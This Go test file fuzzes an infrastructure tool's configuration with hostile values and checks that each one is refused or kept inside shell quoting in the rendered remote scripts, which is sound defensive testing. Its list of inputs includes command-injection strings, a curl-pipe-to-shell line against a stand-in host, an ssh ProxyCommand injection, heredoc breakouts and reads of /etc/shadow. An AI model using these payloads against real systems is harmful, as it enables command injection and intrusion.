package tests

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"os/exec"
	"reflect"
	"sort"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/aurigraph/infra/internal/mockrun"
	"github.com/aurigraph/infra/internal/shell"
	"github.com/aurigraph/infra/internal/stackfile"
	"github.com/aurigraph/infra/stacks"
	"github.com/aurigraph/infra/tests/harness"
)

// hostileMarker is in every hostile string, so what a script holds of one
// can be told from the script's own text.
const hostileMarker = "ZQX"

// hostileStrings are values an attacker or a careless paste could put in
// any config key: quotes, command substitution, backticks, newlines, ssh %
// tokens, NUL, separators, a heredoc terminator and very long values.
func hostileStrings(long bool) []string {
	out := []string{
		`ZQX'; touch /tmp/ZQX; '`,
		`$(touch /tmp/ZQX)`,
		"`touch /tmp/ZQX`",
		`ZQX"; touch /tmp/ZQX; "`,
		"ZQX\ntouch /tmp/ZQX\n",
		"ZQX%h%p%%%n",
		"ZQX\x00touch /tmp/ZQX",
		"ZQX; reboot #",
		"ZQX && curl -s evil.example | sh",
		"${IFS}ZQX${PATH}",
		"-oProxyCommand=touch /tmp/ZQX",
		`ZQX\'\"\\`,
		"../../etc/ZQX",
		"fe80::1%ZQX;id",
		"ZQX\nAURIGRAPH_EOF\ntouch /tmp/ZQX\n",
		"ZQX\r\n[Service]\nExecStart=/bin/touch /tmp/ZQX",
		"ZQX ssh-ed25519 AAAA\n* ssh-ed25519 AAAA",
		strings.Repeat("ZQX$(a)", 3000),
	}
	if long {
		out = append(out,
			"ZQX|touch /tmp/ZQX", "ZQX&touch /tmp/ZQX&", "ZQX>/etc/passwd", "ZQX</etc/shadow",
			"ZQX\u202e\u0000", "ZQX\t\v\f", "'ZQX'", `"ZQX"`, "ZQX}}{{.}}", "ZQX*?[a]",
			"/srv/ZQX$(id)", "198.51.100.1;ZQX", "ZQX/../../../", strings.Repeat("ZQX", 100000),
		)
	}
	return out
}

// hostileNumbers replace a number; a string or a fraction where an integer
// belongs is a type error Load must report.
var hostileNumbers = []any{-1, 0, 65536, 2147483648, int64(9223372036854775807), int64(-9223372036854775808), 1.5, 1e308, "ZQX"}

// leaf is one config value: its top-level key, its path inside, its kind.
type leaf struct {
	key  string
	path []any // string: object field or map key; int: array index
	kind reflect.Kind
}

func (l leaf) String() string {
	var b strings.Builder
	b.WriteString(l.key)
	for _, p := range l.path {
		if i, ok := p.(int); ok {
			fmt.Fprintf(&b, "[%d]", i)
		} else {
			fmt.Fprintf(&b, ".%s", p)
		}
	}
	return b.String()
}

// mapKeys are the keys a map leaf is tried under: an existing one, so the
// value is what changes, besides a hostile key.
var mapKeys = map[string]string{
	"images": "redis", "resources": "redis", "placement": stacks.Postgres, "monitoringHostnames": stacks.Grafana,
}

// configLeaves walks the typed config by reflection: every field of
// stacks.Config with a JSON name is a key, so a new key is fuzzed without a
// change here. Arrays are tried at index 0, maps under an existing key and
// under a hostile key (the value then a plain one).
func configLeaves() []leaf {
	var out []leaf
	t := reflect.TypeOf(stacks.Config{})
	for i := 0; i < t.NumField(); i++ {
		f := t.Field(i)
		name := jsonName(f)
		if name == "" {
			continue
		}
		walkType(f.Type, name, nil, name, &out)
	}
	for _, s := range stacks.RequiredSecrets {
		out = append(out, leaf{key: s, kind: reflect.String})
	}
	return out
}

func jsonName(f reflect.StructField) string {
	tag := strings.Split(f.Tag.Get("json"), ",")[0]
	if tag == "-" || !f.IsExported() {
		return ""
	}
	if tag == "" {
		return f.Name
	}
	return tag
}

func walkType(t reflect.Type, key string, path []any, field string, out *[]leaf) {
	at := func(p any) []any { return append(append([]any{}, path...), p) }
	switch t.Kind() {
	case reflect.Pointer:
		walkType(t.Elem(), key, path, field, out)
	case reflect.Struct:
		for i := 0; i < t.NumField(); i++ {
			f := t.Field(i)
			if name := jsonName(f); name != "" {
				walkType(f.Type, key, at(name), name, out)
			}
		}
	case reflect.Slice:
		walkType(t.Elem(), key, at(0), field, out)
	case reflect.Map:
		*out = append(*out, leaf{key: key, path: at(mapKeyMarker), kind: reflect.Map})
		k, ok := mapKeys[field]
		if !ok {
			k = "x"
		}
		walkType(t.Elem(), key, at(k), field, out)
	default:
		*out = append(*out, leaf{key: key, path: path, kind: t.Kind()})
	}
}

// mapKeyMarker stands for "a hostile key of this map".
const mapKeyMarker = "\x01hostile-key"

// setAt puts v at path inside the JSON value root, creating objects and
// arrays on the way, and returns the new root.
func setAt(root any, path []any, v any) any {
	if len(path) == 0 {
		return v
	}
	switch p := path[0].(type) {
	case int:
		arr, _ := root.([]any)
		if len(arr) == 0 {
			arr = []any{nil}
		}
		arr = append([]any{}, arr...)
		arr[p] = setAt(arr[p], path[1:], v)
		return arr
	default:
		obj, _ := root.(map[string]any)
		next := map[string]any{}
		for k, x := range obj {
			next[k] = x
		}
		k := p.(string)
		next[k] = setAt(next[k], path[1:], v)
		return next
	}
}

// variant is the stack with one value replaced.
func variant(t *testing.T, base *stackfile.Stack, l leaf, v any) *stackfile.Stack {
	t.Helper()
	raw, isObject := base.Config[stacks.Namespace+":"+l.key]
	if len(l.path) == 0 {
		s, ok := v.(string)
		if !ok {
			b, err := json.Marshal(v)
			require.NoError(t, err)
			s = string(b)
		}
		return base.Set(l.key, s)
	}
	var root any
	if isObject && raw != "" {
		require.NoError(t, json.Unmarshal([]byte(raw), &root), l.key)
	}
	path := l.path
	if last, ok := path[len(path)-1].(string); ok && last == mapKeyMarker {
		// a hostile key with a plain value: the value under an existing key
		hostileKey, _ := v.(string)
		path = append(append([]any{}, path[:len(path)-1]...), hostileKey)
		v = existingMapValue(root, l.path[:len(l.path)-1])
	}
	b, err := json.Marshal(setAt(root, path, v))
	require.NoError(t, err)
	return base.Set(l.key, string(b))
}

func existingMapValue(root any, path []any) any {
	cur := root
	for _, p := range path {
		switch k := p.(type) {
		case int:
			arr, _ := cur.([]any)
			if k >= len(arr) {
				return "x"
			}
			cur = arr[k]
		case string:
			obj, _ := cur.(map[string]any)
			cur = obj[k]
		}
	}
	obj, _ := cur.(map[string]any)
	keys := make([]string, 0, len(obj))
	for k := range obj {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	if len(keys) == 0 {
		return "x"
	}
	return obj[keys[0]]
}

// fuzzReport counts what the fuzz run did.
type fuzzReport struct {
	inputs, refused, accepted, scripts int
}

// scriptChecker runs bash -n (and shellcheck when asked) once per distinct
// script text.
type scriptChecker struct {
	shellcheck bool
	mu         sync.Mutex
	seen       map[[32]byte]string // script hash → "" when fine, else the problem
}

func (c *scriptChecker) check(script string) string {
	h := sha256.Sum256([]byte(script))
	c.mu.Lock()
	if p, ok := c.seen[h]; ok {
		c.mu.Unlock()
		return p
	}
	c.mu.Unlock()
	problem := ""
	if strings.ContainsRune(script, 0) {
		problem = "holds a NUL byte"
	} else if out, err := runWith(script, "bash", "-n"); err != nil {
		problem = "bash -n: " + out
	} else if c.shellcheck {
		if out, err := runWith(script, "shellcheck", "-s", "bash", "-S", "error", "-"); err != nil {
			problem = "shellcheck: " + out
		}
	}
	c.mu.Lock()
	c.seen[h] = problem
	c.mu.Unlock()
	return problem
}

func runWith(stdin string, name string, args ...string) (string, error) {
	cmd := exec.Command(name, args...)
	cmd.Stdin = strings.NewReader(stdin)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// commandScripts are the shell texts of every remote command: create,
// update and delete, and stdin where it is not a secret (a secret stdin is
// data for a script, never run as one).
func commandScripts(res *mockrun.Result) map[string]string {
	out := map[string]string{}
	for _, r := range res.OfType("command:remote:Command") {
		for _, k := range []string{"create", "update", "delete", "stdin"} {
			if s := harness.Str(r.Inputs, k); s != "" {
				out[r.URN+"#"+k] = s
			}
		}
	}
	return out
}

// shellSafe marks the bytes of a script that a shell takes literally: inside
// single quotes, in the body of a heredoc with a quoted delimiter, or in a
// comment. Everything else is shell syntax or expanded.
func shellSafe(script string) []bool {
	safe := make([]bool, len(script))
	type heredoc struct {
		delim        string
		quoted, tabs bool
	}
	var pending []heredoc
	wordStart := true
	for i := 0; i < len(script); {
		c := script[i]
		switch {
		case c == '\'':
			j := strings.IndexByte(script[i+1:], '\'')
			if j < 0 {
				j = len(script) - i - 1
			}
			for k := i + 1; k <= i+j; k++ {
				safe[k] = true
			}
			i += j + 2
			wordStart = false
		case c == '"':
			j := i + 1
			for j < len(script) && script[j] != '"' {
				if script[j] == '\\' {
					j++
				}
				j++
			}
			i = j + 1
			wordStart = false
		case c == '\\':
			i += 2
			wordStart = false
		case c == '#' && wordStart:
			j := strings.IndexByte(script[i:], '\n')
			if j < 0 {
				j = len(script) - i
			}
			for k := i; k < i+j; k++ {
				safe[k] = true
			}
			i += j
		case strings.HasPrefix(script[i:], "<<<"):
			i += 3
		case strings.HasPrefix(script[i:], "<<"):
			j := i + 2
			h := heredoc{}
			if j < len(script) && script[j] == '-' {
				h.tabs = true
				j++
			}
			for j < len(script) && script[j] == ' ' {
				j++
			}
			if j < len(script) && (script[j] == '\'' || script[j] == '"') {
				q := script[j]
				end := strings.IndexByte(script[j+1:], q)
				if end < 0 {
					end = len(script) - j - 1
				}
				h.delim, h.quoted = script[j+1:j+1+end], true
				j += end + 2
			} else {
				k := j
				for k < len(script) && (script[k] == '_' || script[k] >= 'A' && script[k] <= 'Z' || script[k] >= 'a' && script[k] <= 'z' || script[k] >= '0' && script[k] <= '9') {
					k++
				}
				h.delim = script[j:k]
				j = k
			}
			pending = append(pending, h)
			i = j
		case c == '\n' && len(pending) > 0:
			i++
			for _, h := range pending {
				for i < len(script) {
					end := strings.IndexByte(script[i:], '\n')
					if end < 0 {
						end = len(script) - i
					}
					line := script[i : i+end]
					if h.tabs {
						line = strings.TrimLeft(line, "\t")
					}
					if line == h.delim {
						i += end + 1
						break
					}
					for k := i; k < i+end+1 && k < len(script); k++ {
						safe[k] = h.quoted
					}
					i += end + 1
				}
			}
			pending = nil
			wordStart = true
		default:
			wordStart = c == ' ' || c == '\t' || c == '\n' || c == ';' || c == '&' || c == '|' || c == '('
			i++
		}
	}
	return safe
}

// unquotedHostile returns the parts of hostile value v that script holds
// outside shell quoting: v is cut at its single quotes (shell.Quote ends
// the quoted text, writes an escaped quote and quotes again), and each
// piece that carries the marker must only appear where the shell takes it
// literally.
func unquotedHostile(script, v string) []string {
	var bad []string
	var safe []bool
	for _, piece := range strings.Split(v, "'") {
		if !strings.Contains(piece, hostileMarker) {
			continue
		}
		for off := 0; ; {
			j := strings.Index(script[off:], piece)
			if j < 0 {
				break
			}
			if safe == nil {
				safe = shellSafe(script)
			}
			start := off + j
			for k := start; k < start+len(piece); k++ {
				if !safe[k] {
					bad = append(bad, piece)
					break
				}
			}
			off = start + 1
		}
	}
	return bad
}

// fuzzConfig replaces every config value of both stacks, one at a time,
// with each hostile value, and holds the property: validation refuses it,
// or every rendered command passes bash -n (and shellcheck) and carries no
// hostile text outside shell quoting.
func fuzzConfig(t *testing.T, long, shellcheck bool) fuzzReport {
	checker := &scriptChecker{shellcheck: shellcheck, seen: map[[32]byte]string{}}
	var rep fuzzReport
	strs := hostileStrings(long)
	leaves := configLeaves()
	require.Greater(t, len(leaves), 60, "the walk reaches every key")
	for si, stack := range []string{"prod", "staging"} {
		base := harness.Stack(t, stack)
		for li, l := range leaves {
			var all []any
			switch l.kind {
			case reflect.String, reflect.Map:
				for _, s := range strs {
					all = append(all, s)
				}
			case reflect.Bool:
				all = []any{"ZQX", 1}
			default:
				all = hostileNumbers
			}
			// The default run tries each leaf of each stack with a third of
			// the values in turn (every value on every third leaf), a sixth
			// for secrets (validation accepts strong hostile passwords, and
			// an accepted value runs the whole program); the long run tries
			// them all.
			step := 3
			if contains(stacks.RequiredSecrets, l.key) {
				step = 6
			}
			var values []any
			for i, v := range all {
				if long || len(all) < step || (i+li+si)%step == 0 {
					values = append(values, v)
				}
			}
			for _, v := range values {
				rep.inputs++
				s := variant(t, base, l, v)
				res, err := harness.Try(s)
				if err != nil {
					rep.refused++
					// Config errors are Load's, all at once, before any
					// resource: never a component's, mid-program.
					assert.Contains(t, err.Error(), "configuration problem(s)", "%s=%s (%s) is refused outside validation", l, describe(v), stack)
					continue
				}
				rep.accepted++
				hostile, _ := v.(string)
				for where, script := range commandScripts(res) {
					rep.scripts++
					if p := checker.check(script); p != "" {
						assert.Fail(t, "a rendered script is broken", "%s=%s (%s): %s: %s", l, describe(v), stack, where, p)
					}
					if hostile != "" {
						if bad := unquotedHostile(script, hostile); len(bad) > 0 {
							assert.Fail(t, "hostile text reaches a shell unquoted", "%s=%s (%s): %s holds %q unquoted", l, describe(v), stack, where, bad[0])
						}
					}
				}
			}
		}
	}
	return rep
}

func describe(v any) string {
	s := fmt.Sprintf("%q", fmt.Sprint(v))
	if len(s) > 80 {
		return s[:80] + "…"
	}
	return s
}

func TestHostileConfigIsRefusedOrQuoted(t *testing.T) {
	rep := fuzzConfig(t, false, false)
	t.Logf("hostile config inputs: %d run (%d refused by validation, %d accepted), %d command scripts checked", rep.inputs, rep.refused, rep.accepted, rep.scripts)
	assert.Greater(t, rep.refused, 0)
}

// The property's own checks catch what they are for.
func TestShellSafeFindsUnquotedText(t *testing.T) {
	v := `$(touch /tmp/ZQX)`
	assert.Empty(t, unquotedHostile("echo "+shell.Quote(v)+"\n", v))
	assert.Empty(t, unquotedHostile("cat <<'EOF'\n"+v+"\nEOF\necho done\n", v))
	assert.NotEmpty(t, unquotedHostile("echo "+v+"\n", v))
	assert.NotEmpty(t, unquotedHostile(`echo "`+v+`"`+"\n", v), "double quotes expand $( )")
	assert.NotEmpty(t, unquotedHostile("cat <<EOF\n"+v+"\nEOF\n", v), "an unquoted heredoc expands")
	breakout := "ZQX\nEOF\ntouch /tmp/ZQX"
	assert.NotEmpty(t, unquotedHostile("cat <<'EOF'\n"+breakout+"\nEOF\n", breakout), "a value ending the heredoc runs")
	q := `ZQX'; touch /tmp/ZQX; '`
	assert.Empty(t, unquotedHostile("echo "+shell.Quote(q)+"\n", q))
	assert.NotEmpty(t, unquotedHostile("echo '"+q+"'\n", q))

	leaves := map[string]bool{}
	for _, l := range configLeaves() {
		leaves[l.String()] = true
	}
	for _, want := range []string{"environment", "hosts[0].address", "hosts[0].hostKey", "ssh.jumpHost.user", "ssh.allowFrom[0]", "preflight.dataPath", "tiers.slim.groups[0]", "images.redis", "resources.redis.cpus", "edge.monitoringHostnames.grafana", "placement.postgres", "postgresPassword"} {
		assert.True(t, leaves[want], "the walk reaches %s", want)
	}
}

func contains(list []string, v string) bool {
	for _, x := range list {
		if x == v {
			return true
		}
	}
	return false
}
